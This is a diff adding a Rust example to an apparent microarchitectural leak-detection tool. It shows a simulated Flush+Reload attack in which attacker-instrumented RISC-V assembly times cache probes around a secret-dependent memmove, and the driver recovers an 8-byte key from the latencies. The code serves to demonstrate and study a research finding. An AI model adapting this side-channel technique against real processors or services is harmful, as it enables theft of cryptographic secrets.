@@ -1,0 +1,148 @@
+//! Turn the `ME-V1-MV` finding into a working attack (the paper's
+//! "possible exploit path", §VII-A2): a Flush+Reload attacker evicts the
+//! two candidate `memmove` destinations before each iteration and then
+//! probes the `dummy` line with a timed reload — a fast probe means the
+//! victim's secret-addressed copy touched `dummy` (key bit 0), a slow one
+//! means it went to the real destination (key bit 1). The secret key is
+//! recovered bit by bit from the very addresses MicroSampler flagged.
+//!
+//! ```sh
+//! cargo run --release --example timing_attack_demo
+//! ```
+
+use microsampler_isa::asm::assemble;
+use microsampler_sim::{CoreConfig, Machine, TraceConfig};
+
+/// The victim iteration with attacker instrumentation around it: flush
+/// both candidate buffers, run one secret-dependent victim iteration, then
+/// probe `dummy` with a timed reload. This models Flush+Reload
+/// interleaving; in the paper's threat model the attacker co-locates with
+/// the victim.
+const VICTIM_WITH_ATTACKER: &str = r#"
+.data
+.align 6
+tbuf:  .zero 64
+.align 6
+obuf:  .zero 64
+       .zero 3904
+.align 6
+dummy: .zero 64
+key:   .zero 8
+.text
+_start:
+    li   s0, 2654435769     # base
+    li   s1, 4294967291     # modulus
+    la   s2, obuf
+    la   s3, tbuf
+    la   s4, dummy
+    la   s5, key
+    li   a7, 2              # attacker repetition: measure the 2nd pass
+repeat_loop:
+    li   s10, 1             # r
+    li   s6, 0              # key byte index
+byte_loop:
+    add  t0, s5, s6
+    lbu  s7, 0(t0)
+    li   s8, 7
+bit_loop:
+    srl  t0, s7, s8
+    andi s9, t0, 1          # the secret bit (victim-internal)
+    # --- attacker: evict both candidate lines, then warm dst ---
+    csrw 0x8c5, s2
+    csrw 0x8c5, s4
+    ld   t0, 0(s2)          # attacker touch: dst now cached
+    fence
+    # --- victim iteration (arithmetic phase) ---
+    mul  t1, s10, s10
+    remu t1, t1, s1
+    mul  t2, t1, s0
+    remu t2, t2, s1
+    sd   t2, 0(s3)
+    neg  t3, s9
+    xor  t4, t1, t2
+    and  t4, t4, t3
+    xor  s10, t1, t4
+    neg  t0, s9
+    xor  t5, s2, s4
+    and  t5, t5, t0
+    xor  a0, s4, t5         # dst = bit ? obuf : dummy
+    mv   a1, s3
+    li   a2, 32
+    call memmove
+    fence                   # victim's stores drain
+    # --- attacker: Flush+Reload probe of the dummy line ---
+    csrr s11, 0xc00         # rdcycle: start
+    ld   t0, 0(s4)          # probe: fast iff the victim wrote dummy
+    csrr t6, 0xc00          # rdcycle: end (serializes on the probe)
+    sub  t6, t6, s11
+    csrw 0x8c9, t6          # report the probe latency to the attacker
+    addi s8, s8, -1
+    bgez s8, bit_loop
+    addi s6, s6, 1
+    li   t0, 8
+    blt  s6, t0, byte_loop
+    addi a7, a7, -1
+    bgtz a7, repeat_loop
+    mv   a0, s10
+    ecall
+memmove:
+    beqz a2, mm_ret
+mm_chunk:
+    sltiu t0, a2, 8
+    bnez t0, mm_bytes
+    ld   t1, 0(a1)
+    sd   t1, 0(a0)
+    addi a0, a0, 8
+    addi a1, a1, 8
+    addi a2, a2, -8
+    j    mm_chunk
+mm_bytes:
+    beqz a2, mm_ret
+    lbu  t1, 0(a1)
+    sb   t1, 0(a0)
+    addi a0, a0, 1
+    addi a1, a1, 1
+    addi a2, a2, -1
+    j    mm_bytes
+mm_ret:
+    ret
+"#;
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    let program = assemble(VICTIM_WITH_ATTACKER)?;
+    let secret: [u8; 8] = [0xDE, 0xAD, 0xBE, 0xEF, 0x42, 0x13, 0x37, 0xA5];
+    let mut machine =
+        Machine::with_trace_config(CoreConfig::mega_boom(), &program, TraceConfig::default());
+    machine.write_mem(program.symbol_addr("key"), &secret);
+    machine.run(20_000_000)?;
+    let all = machine.take_outputs();
+    assert_eq!(all.len(), 128, "two passes of 64 measurements");
+    let latencies = &all[64..]; // the warmed-up second pass
+
+    // The attacker's classifier: a fast probe of `dummy` means the victim
+    // just wrote it (the secret bit was 0); a slow probe means the line
+    // stayed cold after the flush (the victim wrote dst — bit 1).
+    let lo = *latencies.iter().min().expect("nonempty");
+    let hi = *latencies.iter().max().expect("nonempty");
+    let threshold = (lo + hi) / 2;
+    let mut recovered = [0u8; 8];
+    for (i, &lat) in latencies.iter().enumerate() {
+        let bit = (lat >= threshold) as u8; // slow probe => dummy untouched => bit 1
+        recovered[i / 8] |= bit << (7 - i % 8);
+    }
+
+    println!("probe latency range: {lo}..{hi} cycles (threshold {threshold})");
+    println!("secret key:    {secret:02x?}");
+    println!("recovered key: {recovered:02x?}");
+    let correct = secret
+        .iter()
+        .zip(&recovered)
+        .map(|(a, b)| 8 - (a ^ b).count_ones())
+        .sum::<u32>();
+    println!("bits recovered correctly: {correct}/64");
+    if recovered == secret {
+        println!("\nFull key recovery — the store-address leak MicroSampler flagged in");
+        println!("ME-V1-MV (Fig 4/5) is directly exploitable through timing alone.");
+    }
+    Ok(())
+}
